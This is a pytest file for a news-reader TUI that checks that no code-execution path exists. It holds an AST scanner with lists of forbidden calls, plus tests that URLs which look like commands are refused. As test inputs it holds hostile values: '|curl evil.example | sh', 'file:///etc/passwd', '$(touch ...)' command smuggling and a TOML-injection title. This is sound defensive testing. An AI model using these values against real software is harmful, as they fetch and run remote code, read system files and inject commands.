"""No code execution paths: no shell in the source tree, command-looking values refused everywhere.

The config side (``|cmd``, ``exec:``, ``filter:`` in feeds.toml) has one
fixture per case in tests/data/config/bad (tests/test_config_errors.py);
this file covers the source tree itself and the OPML and ``add`` doors.
"""

from __future__ import annotations

import ast
import os
import subprocess
from pathlib import Path

import pytest

from uninews_tui.config import load_config

from .support import Home

SRC = Path(__file__).resolve().parents[2] / "src" / "uninews_tui"
FORBIDDEN_MODULES = {"subprocess", "pty", "pickle", "marshal", "shelve", "commands", "popen2"}
FORBIDDEN_CALLS = {"os.system", "os.popen", "os.execv", "os.execve", "os.execl", "os.execlp", "os.execvp",
                   "os.spawnl", "os.spawnv", "os.spawnlp", "os.spawnvp", "os.posix_spawn", "os.posix_spawnp",
                   "os.startfile", "eval", "exec", "compile", "__import__", "asyncio.create_subprocess_shell",
                   "asyncio.create_subprocess_exec"}


def dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return ""


def findings(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    found = []
    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [f"{where}: imports {n}" for n in names if n.split(".")[0] in FORBIDDEN_MODULES]
        elif isinstance(node, ast.Call):
            name = dotted(node.func)
            if name in FORBIDDEN_CALLS:
                found.append(f"{where}: calls {name}")
            for keyword in node.keywords:
                if keyword.arg == "shell" and not (isinstance(keyword.value, ast.Constant)
                                                   and keyword.value.value is False):
                    found.append(f"{where}: shell=...")
    return found


def test_source_tree_has_no_shell_or_code_execution() -> None:
    files = sorted(SRC.rglob("*.py"))
    assert len(files) > 50
    problems = [problem for path in files for problem in findings(path)]
    assert problems == []
    text = "\n".join(path.read_text(encoding="utf-8") for path in files)
    for needle in ("shell=True", "os.system(", "os.popen(", "Popen("):
        assert needle not in text


def test_the_scanner_would_notice(tmp_path: Path) -> None:
    """Control: each forbidden shape is reported."""
    bad = tmp_path / "probe.py"
    bad.write_text("import subprocess\nimport os\nos.system('x')\nsubprocess.run('x', shell=True)\n"
                   "eval('1')\n", encoding="utf-8")
    assert findings(bad) == ["probe.py:1: imports subprocess", "probe.py:3: calls os.system",
                             "probe.py:4: shell=...", "probe.py:5: calls eval"]


@pytest.fixture
def no_processes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to start a process fails the test."""
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"a process was started: {args}")

    monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
    monkeypatch.setattr(os, "system", refuse)
    monkeypatch.setattr(os, "posix_spawn", refuse)


COMMANDS = ["|touch {mark}", "exec:touch {mark}", "filter:/bin/sh -c 'touch {mark}':https://x.example/feed",
            "file:///etc/passwd", "javascript:alert(1)", "query:unread:unread = \"yes\"", "`touch {mark}`",
            "$(touch {mark})"]


def test_import_opml_refuses_commands_with_a_message(home: Home, tmp_path: Path, no_processes: None) -> None:
    mark = tmp_path / "pwned"
    outlines = "".join(f'<outline type="rss" text="c{n}" xmlUrl="{c.format(mark=mark)}"/>'
                       for n, c in enumerate(COMMANDS))
    outlines = outlines.replace("'", "&apos;").replace('"yes"', "&quot;yes&quot;")
    outlines += ('<outline type="rss" text="ok" xmlUrl="https://fine.example.edu/feed" '
                 'filtercmd="touch x" exec="touch y"/>')
    opml = tmp_path / "subs.opml"
    opml.write_text(f'<?xml version="1.0"?><opml version="2.0"><body>{outlines}</body></opml>',
                    encoding="utf-8")
    home.write_config([])
    code, out, err = home.run("import-opml", str(opml))
    assert code == 0, err
    refused = [line for line in err.splitlines() if line.startswith("refused ")]
    assert len(refused) == len(COMMANDS)
    assert f"refused {len(COMMANDS)} (commands or non-http URLs are never run)" in out
    config = load_config(home.config)
    assert [s.url for s in config.sources] == ["https://fine.example.edu/feed"]
    assert not mark.exists()


def test_an_opml_title_cannot_inject_toml(home: Home, tmp_path: Path) -> None:
    title = 'x"\n[[sources]]\nid = "evil"\nurl = "exec:touch pwned"\n#'
    opml = tmp_path / "subs.opml"
    opml.write_text('<?xml version="1.0"?><opml version="2.0"><body><outline type="rss" '
                    f'title="{title.replace(chr(34), "&quot;").replace(chr(10), "&#10;")}" '
                    'xmlUrl="https://inject.example.edu/feed"/></body></opml>', encoding="utf-8")
    home.write_config([])
    code, _, err = home.run("import-opml", str(opml))
    assert code == 0, err
    config = load_config(home.config)  # still valid TOML, still one source
    assert [s.url for s in config.sources] == ["https://inject.example.edu/feed"]
    assert config.sources[0].title.startswith('x" [[sources]]')


@pytest.mark.parametrize("url", ["|curl evil.example | sh", "exec:touch pwned", "filter:x:https://a.example/"])
def test_add_refuses_commands(home: Home, url: str, no_processes: None) -> None:
    home.write_config([])
    before = home.config.read_bytes()
    code, _, err = home.run("add", url, "--yes")
    assert code != 0
    assert "command" in err or "http" in err
    assert home.config.read_bytes() == before


@pytest.mark.parametrize("url", ["|curl -s https://uni.example.edu/feed", "exec:~/bin/make-feed.sh",
                                 "filter:fix.sh:https://uni.example.edu/feed"])
def test_config_command_urls_are_refused_by_the_cli(home: Home, url: str, no_processes: None) -> None:
    home.write_config([{"id": "cmd", "url": url}])
    code, _, err = home.run("refresh")
    assert code == 2
    assert "looks like a command; commands are not allowed, only http(s) URLs" in err
    assert not home.db.exists()  # nothing written
